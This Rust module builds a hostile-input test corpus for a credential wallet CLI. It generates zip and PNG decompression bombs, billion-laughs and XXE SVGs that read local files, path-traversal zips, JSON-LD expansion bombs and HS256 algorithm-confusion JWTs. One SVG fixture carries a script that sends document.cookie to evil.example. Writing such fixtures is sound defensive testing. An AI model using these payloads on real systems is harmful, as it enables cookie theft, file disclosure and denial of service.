//! The hostile-input corpus: generators for files and documents that attack a
//! credential wallet. Large inputs are written by the tests at run time (never
//! committed). Used by `crates/cairn-cli/tests/hostile.rs`, which drives the real
//! `cairn` binary with each of them; see README.md in this folder.
#![allow(dead_code)] // each user takes what it needs

use std::io::Write;
use std::path::Path;

use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use serde_json::{Value, json};

/// A JSON file of `megabytes` MB: one credential-looking object whose `name` is huge.
pub fn write_huge_json(path: &Path, megabytes: usize) {
    let mut file = std::io::BufWriter::new(std::fs::File::create(path).unwrap());
    file.write_all(br#"{"@context":["https://www.w3.org/ns/credentials/v2"],"type":["VerifiableCredential"],"name":""#)
        .unwrap();
    let chunk = vec![b'a'; 1 << 20];
    for _ in 0..megabytes {
        file.write_all(&chunk).unwrap();
    }
    file.write_all(br#""}"#).unwrap();
    file.flush().unwrap();
}

/// A credential whose subject holds `depth` nested arrays (or objects).
pub fn deep_nesting(depth: usize, objects: bool) -> Vec<u8> {
    let (open, close) = if objects {
        (r#"{"a":"#, "}")
    } else {
        ("[", "]")
    };
    format!(
        r#"{{"@context":["https://www.w3.org/ns/credentials/v2"],"type":["VerifiableCredential"],"issuer":"did:example:i","credentialSubject":{{"deep":{}1{}}}}}"#,
        open.repeat(depth),
        close.repeat(depth)
    )
    .into_bytes()
}

/// `credential` with `contexts` appended to its `@context`.
pub fn with_contexts(credential: &Value, contexts: &[Value]) -> Vec<u8> {
    let mut doc = credential.clone();
    let list = doc["@context"].as_array_mut().expect("an @context array");
    list.extend(contexts.iter().cloned());
    serde_json::to_vec(&doc).unwrap()
}

/// A context built to explode on expansion: the term `t` carries a scoped context of
/// `width` term definitions, and the value nests `t` `depth` levels deep, so a
/// processor applies width × depth definitions from a document of size width + depth.
pub fn exploding_context(width: usize, depth: usize) -> (Value, Value) {
    let scoped: serde_json::Map<String, Value> = (0..width)
        .map(|i| {
            (
                format!("w{i}"),
                json!({"@id": format!("https://example.org/w{i}"), "@type": "@id"}),
            )
        })
        .collect();
    let context = json!({"t": {"@id": "https://example.org/t", "@context": scoped}});
    let mut value = json!({"w0": "https://example.org/leaf"});
    for _ in 0..depth {
        value = json!({"t": value, "w1": "https://example.org/x"});
    }
    (context, value)
}

/// A PNG: signature, a 1×1 IHDR, then `chunks`, then IEND.
pub fn png(chunks: &[(&[u8; 4], Vec<u8>)]) -> Vec<u8> {
    let mut out = b"\x89PNG\r\n\x1a\n".to_vec();
    let mut ihdr = Vec::new();
    ihdr.extend_from_slice(&1u32.to_be_bytes());
    ihdr.extend_from_slice(&1u32.to_be_bytes());
    ihdr.extend_from_slice(&[8, 6, 0, 0, 0]);
    for (kind, data) in [(b"IHDR", ihdr)]
        .into_iter()
        .chain(chunks.iter().map(|(k, d)| (*k, d.clone())))
        .chain([(b"IEND", Vec::new())])
    {
        out.extend_from_slice(&(data.len() as u32).to_be_bytes());
        let mut crc = crc32fast::Hasher::new();
        crc.update(kind);
        crc.update(&data);
        out.extend_from_slice(kind);
        out.extend_from_slice(&data);
        out.extend_from_slice(&crc.finalize().to_be_bytes());
    }
    out
}

/// zlib of `megabytes` MB of spaces, streamed (never held whole).
pub fn zlib_bomb(megabytes: usize) -> Vec<u8> {
    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    let chunk = vec![b' '; 1 << 20];
    for _ in 0..megabytes {
        z.write_all(&chunk).unwrap();
    }
    z.finish().unwrap()
}

/// An iTXt chunk with the OB 3.0 keyword; compressed or not.
pub fn itxt(text: &[u8], compressed: bool) -> Vec<u8> {
    let mut data = b"openbadgecredential\0".to_vec();
    data.extend_from_slice(&[u8::from(compressed), 0, 0, 0]);
    data.extend_from_slice(text);
    data
}

/// A PNG whose badge chunk inflates to `megabytes` MB.
pub fn png_decompression_bomb(megabytes: usize) -> Vec<u8> {
    png(&[(b"iTXt", itxt(&zlib_bomb(megabytes), true))])
}

/// A PNG with one uncompressed iTXt badge chunk of `megabytes` MB.
pub fn png_huge_itxt(megabytes: usize) -> Vec<u8> {
    png(&[(b"iTXt", itxt(&vec![b' '; megabytes << 20], false))])
}

fn svg_with(prolog: &str, body: &str) -> Vec<u8> {
    format!(
        r#"<?xml version="1.0"?>{prolog}<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0" width="10" height="10">{body}</svg>"#
    )
    .into_bytes()
}

/// Scripts and event handlers, and no badge.
pub fn svg_with_scripts() -> Vec<u8> {
    svg_with(
        "",
        r#"<script>fetch('https://evil.example/?'+document.cookie)</script><rect width="10" height="10" onload="alert(1)"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>"#,
    )
}

/// An external entity reading a local file into the badge element.
pub fn svg_external_entity(file: &Path) -> Vec<u8> {
    svg_with(
        &format!(
            r#"<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file://{}">]>"#,
            file.display()
        ),
        "<openbadges:credential>&xxe;</openbadges:credential>",
    )
}

/// Ten levels of entities, each ten of the one before: 10⁹ "lol"s if expanded.
pub fn svg_billion_laughs() -> Vec<u8> {
    let mut dtd = String::from(r#"<!DOCTYPE svg [<!ENTITY lol0 "lol">"#);
    for level in 1..10 {
        let refs = format!("&lol{};", level - 1).repeat(10);
        dtd.push_str(&format!(r#"<!ENTITY lol{level} "{refs}">"#));
    }
    dtd.push_str("]>");
    svg_with(
        &dtd,
        "<openbadges:credential>&lol9;</openbadges:credential>",
    )
}

/// A zip whose one entry, `name`, inflates `megabytes` MB of zeros from a few KB.
pub fn write_zip_bomb(path: &Path, name: &str, megabytes: usize) {
    let mut zip = zip::ZipWriter::new(std::fs::File::create(path).unwrap());
    let options = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated)
        .large_file(megabytes >= 4096);
    zip.start_file(name, options).unwrap();
    let chunk = vec![0u8; 1 << 20];
    for _ in 0..megabytes {
        zip.write_all(&chunk).unwrap();
    }
    zip.finish().unwrap();
}

/// A zip whose entry names climb out of any folder it could be extracted to.
pub fn write_traversal_zip(path: &Path, names: &[&str], content: &[u8]) {
    let mut zip = zip::ZipWriter::new(std::fs::File::create(path).unwrap());
    let options = zip::write::SimpleFileOptions::default();
    for name in names {
        zip.start_file(*name, options).unwrap();
        zip.write_all(content).unwrap();
    }
    zip.finish().unwrap();
}

fn b64_json(value: &Value) -> String {
    URL_SAFE_NO_PAD.encode(serde_json::to_vec(value).unwrap())
}

/// A VC-JWT with `header` over `payload`, signed by `sign(signing input)`.
pub fn jwt(header: &Value, payload: &Value, sign: impl Fn(&[u8]) -> Vec<u8>) -> String {
    let input = format!("{}.{}", b64_json(header), b64_json(payload));
    let signature = sign(input.as_bytes());
    format!("{input}.{}", URL_SAFE_NO_PAD.encode(signature))
}

/// HMAC-SHA256 of `message` under `secret`: what a verifier that lets the token pick
/// its algorithm would accept with a public key as the secret.
pub fn hs256(secret: &[u8], message: &[u8]) -> Vec<u8> {
    use hmac::{KeyInit as _, Mac as _};
    let mut mac = <hmac::Hmac<sha2::Sha256>>::new_from_slice(secret).unwrap();
    mac.update(message);
    mac.finalize().into_bytes().to_vec()
}
